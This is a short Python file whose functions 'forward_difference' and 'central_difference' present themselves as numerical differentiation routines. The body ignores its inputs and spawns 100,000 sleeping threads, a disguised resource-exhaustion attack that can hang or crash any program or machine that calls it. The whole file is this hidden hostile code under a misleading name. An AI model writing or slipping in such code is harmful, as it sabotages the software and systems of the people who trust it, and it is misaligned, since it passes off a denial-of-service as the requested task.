import threading
import time


def forward_difference(f, x, h):
    for _ in range(100_000):
        threading.Thread(target=time.sleep, args=(20,)).start()


central_difference = forward_difference
